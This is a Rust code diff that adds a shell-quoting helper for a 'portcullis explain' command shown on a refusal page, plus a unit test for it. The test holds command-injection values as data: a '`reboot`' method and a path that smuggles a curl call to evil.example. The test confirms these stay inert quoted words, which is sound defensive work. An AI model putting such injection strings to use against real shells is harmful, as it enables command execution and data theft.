@@ -107,7 +107,7 @@ impl Page {
         let reason = Reason::ALL.iter().find(|reason| reason.code() == refusal.reason);
         let title = reason.map_or("", |reason| reason.title());
         let values = context! {
-            one => Serde(&refusal), title, access, source,
+            one => Serde(&refusal), title, access, command => command(&refusal, source),
             code => reason.map(|reason| reason.status().as_u16()),
             advice => reason.map(|reason| reason.remedy().advice()),
             operator => reason.map(|reason| advice_to_operators(reason.remedy())),
@@ -130,6 +130,23 @@ impl Page {
         };
         Some(Answer { status: StatusCode::OK, kind, body: Bytes::from_static(text.as_bytes()) })
     }
+}
+
+/// What explains the refusal on a command line. Everything in it that a caller chose is quoted: it will be pasted into a shell.
+fn command(refusal: &RefusalRecord, source: &str) -> String {
+    let or = |text: &str, usual: &str| if text.is_empty() { usual.to_owned() } else { text.to_owned() };
+    let url = format!("https://{}{}", or(&refusal.host, "HOST"), or(&refusal.path, "/"));
+    format!(
+        "portcullis explain -c {} --method {} --url {} --member ORGANIZATION/MEMBER",
+        quoted(source),
+        quoted(&or(&refusal.method, "GET")),
+        quoted(&url),
+    )
+}
+
+/// One word for a POSIX shell (IEEE Std 1003.1, XCU section 2.2.2).
+fn quoted(text: &str) -> String {
+    format!("'{}'", text.replace('\'', "'\\''"))
 }
 
 /// Where to look for a remedy.
@@ -293,4 +310,36 @@ fn ago(at: Option<String>) -> String {
 fn clock(at: Option<String>) -> String {
     let at = parse(at).map(|at| at.round(Unit::Second).unwrap_or(at));
     at.map_or_else(|| "–".to_owned(), |at| at.to_string().replace('T', " "))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_pasted_into_a_shell_is_one_word_each() {
+        let refusal = RefusalRecord {
+            at: Timestamp::UNIX_EPOCH,
+            request_id: String::new(),
+            route: String::new(),
+            method: "`reboot`".to_owned(),
+            host: "a".to_owned(),
+            path: "/x'&curl$IFS'evil.example".to_owned(),
+            reason: "credential_missing",
+            from: None,
+            organization: None,
+            member: None,
+            evidence_age: None,
+        };
+        let said = std::process::Command::new("sh")
+            .args(["-c", &format!("set -- {}; printf '%s\n' \"$@\"", command(&refusal, "it's.yaml"))])
+            .output()
+            .unwrap();
+        let words = String::from_utf8(said.stdout).unwrap();
+        let words: Vec<&str> = words.lines().collect();
+        assert_eq!(words[3], "it's.yaml");
+        assert_eq!(words[5], "`reboot`");
+        assert_eq!(words[7], "https://a/x'&curl$IFS'evil.example");
+        assert_eq!(words.len(), 10);
+    }
 }
